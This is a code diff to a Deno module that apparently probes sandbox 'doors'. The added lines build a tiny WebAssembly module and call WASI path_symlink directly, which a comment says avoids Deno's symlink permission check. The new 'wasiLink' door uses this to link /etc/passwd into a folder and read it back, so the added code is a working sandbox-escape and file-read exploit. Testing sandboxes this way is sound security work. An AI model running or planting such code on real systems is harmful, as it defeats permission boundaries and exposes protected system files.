@@ -1,6 +1,7 @@
 /** Tries one door, and says what it found behind it. */
 
 import { defineAction } from "openexec";
+import { WASI } from "node:wasi";
 import * as v from "valibot";
 
 const doors: Record<string, (target: string) => unknown> = {
@@ -32,6 +33,10 @@ const doors: Record<string, (target: string) => unknown> = {
     new Worker("data:text/javascript,", { type: "module", deno: { permissions: { read: true } } })
       .terminate();
   },
+  wasiLink: async (folder) => {
+    await linkByWasi(folder, "/etc/passwd", "passwd");
+    return await Deno.readTextFile(`${folder}/passwd`);
+  },
   fileWorker: (path) => messageOf(`file://${path}`),
   ownWorker: (text) => messageOf(`data:text/javascript,postMessage(${JSON.stringify(text)})`),
 };
@@ -45,6 +50,49 @@ function messageOf(module: string): Promise<unknown> {
       reject(new Error(event.message));
     };
   });
+}
+
+/** An empty module with a memory. */
+const MEMORY = new Uint8Array([
+  0,
+  97,
+  115,
+  109,
+  1,
+  0,
+  0,
+  0,
+  5,
+  3,
+  1,
+  0,
+  1,
+  7,
+  10,
+  1,
+  6,
+  109,
+  101,
+  109,
+  111,
+  114,
+  121,
+  2,
+  0,
+]);
+
+/** path_symlink of WASI, which does not ask for the permissions that Deno.symlink() asks for. */
+async function linkByWasi(folder: string, target: string, name: string): Promise<void> {
+  const wasi = new WASI({ version: "preview1", preopens: { "/folder": folder } });
+  const { instance } = await WebAssembly.instantiate(MEMORY, {});
+  wasi.initialize(instance);
+  const memory = instance.exports["memory"];
+  if (!(memory instanceof WebAssembly.Memory)) throw new Error("no memory");
+  const bytes = new Uint8Array(memory.buffer);
+  bytes.set(new TextEncoder().encode(target), 0);
+  bytes.set(new TextEncoder().encode(name), 1024);
+  const errno: unknown = Reflect.get(wasi.wasiImport, "path_symlink")(0, target.length, 3, 1024, name.length);
+  if (errno !== 0) throw new Error(`path_symlink: ${errno}`);
 }
 
 export default defineAction({
